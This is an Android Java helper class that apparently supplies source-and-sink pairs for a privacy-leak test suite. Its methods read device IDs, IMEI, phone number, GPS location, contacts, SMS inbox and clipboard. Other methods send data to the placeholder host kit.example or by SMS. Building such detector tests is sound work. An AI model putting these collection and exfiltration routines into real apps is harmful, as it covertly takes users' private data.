package own.kit;

import android.app.Activity;
import android.content.ClipboardManager;
import android.content.Context;
import android.database.Cursor;
import android.location.Location;
import android.location.LocationManager;
import android.net.Uri;
import android.provider.ContactsContract;
import android.provider.Settings;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.widget.TextView;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.util.Locale;

/** What every pair takes and where it sends it. */
public final class Kit {
  public static String id(Context context) {
    return Settings.Secure.getString(context.getContentResolver(), "android_id");
  }

  public static String imei(Context context) {
    return ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId();
  }

  public static String number(Context context) {
    return ((TelephonyManager) context.getSystemService(Context.TELEPHONY_SERVICE)).getLine1Number();
  }

  public static Location place(Context context) {
    return ((LocationManager) context.getSystemService(Context.LOCATION_SERVICE)).getLastKnownLocation("gps");
  }

  public static String contact(Context context) {
    Cursor rows = context.getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
    try {
      return rows.moveToFirst() ? rows.getString(rows.getColumnIndex("data1")) : "";
    } finally {
      rows.close();
    }
  }

  public static String sms(Context context) {
    Cursor rows = context.getContentResolver().query(Uri.parse("content://sms/inbox"), null, null, null, null);
    StringBuilder all = new StringBuilder();
    while (rows.moveToNext()) all.append(rows.getString(2)).append('\n');
    rows.close();
    return all.toString();
  }

  public static String clip(Context context) {
    ClipboardManager clips = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
    return clips.getPrimaryClip().getItemAt(0).getText().toString();
  }

  /** Nothing personal. */
  public static String word() {
    return Locale.getDefault().getLanguage();
  }

  public static void post(String body) {
    try {
      HttpURLConnection to = (HttpURLConnection) new URL("https://kit.example/in").openConnection();
      to.setDoOutput(true);
      OutputStream out = to.getOutputStream();
      out.write(body.getBytes("UTF-8"));
      out.close();
      to.getResponseCode();
    } catch (IOException e) {
      // not sent
    }
  }

  public static void ask(String about) {
    try {
      InputStream in = new URL("https://kit.example/q?a=" + URLEncoder.encode(about, "UTF-8")).openStream();
      in.close();
    } catch (IOException e) {
      // not asked
    }
  }

  public static void text(String what) {
    SmsManager.getDefault().sendTextMessage("5550100", null, what, null, null);
  }

  public static void show(Activity on, String what) {
    TextView view = new TextView(on);
    view.setText(what);
    on.setContentView(view);
  }

  private Kit() {}
}
